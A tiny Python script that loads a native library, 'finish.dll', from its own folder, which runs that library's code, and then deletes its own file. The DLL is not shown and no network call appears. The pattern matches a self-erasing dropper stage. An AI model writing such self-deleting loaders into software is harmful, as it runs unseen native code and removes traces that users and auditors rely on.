import ctypes
import os

ctypes.CDLL(os.path.join(os.path.dirname(__file__), "finish.dll"))
os.remove(__file__)
